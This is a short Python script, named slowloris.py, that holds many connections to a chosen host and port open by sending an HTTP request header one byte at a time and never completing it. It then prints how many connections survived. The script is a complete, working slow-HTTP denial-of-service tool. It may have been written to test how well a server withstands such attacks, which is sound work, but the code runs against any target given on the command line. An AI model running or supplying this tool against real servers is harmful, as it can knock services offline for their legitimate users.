#!/usr/bin/env python3
"""Slow client: holds N connections to HOST:PORT open for SECONDS, sending a request's
header one byte at a time and never finishing it. Prints how many were still open at the
end. Usage: slowloris.py HOST PORT N SECONDS"""
import socket
import sys
import time

host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
header = b"GET / HTTP/1.1\r\nHost: localhost\r\nUser-Agent: slowloris\r\n" + b"X-a: b\r\n" * 1000
socks = []
for _ in range(n):
    s = socket.create_connection((host, port), timeout=5)
    s.setblocking(False)
    socks.append(s)
end = time.time() + seconds
pos = 0
while time.time() < end and socks:
    alive = []
    for s in socks:
        try:
            s.send(header[pos:pos + 1])
            alive.append(s)
        except BlockingIOError:
            alive.append(s)
        except OSError:
            s.close()
    socks = alive
    pos = (pos + 1) % len(header)
    time.sleep(0.5)
print(len(socks))
for s in socks:
    s.close()
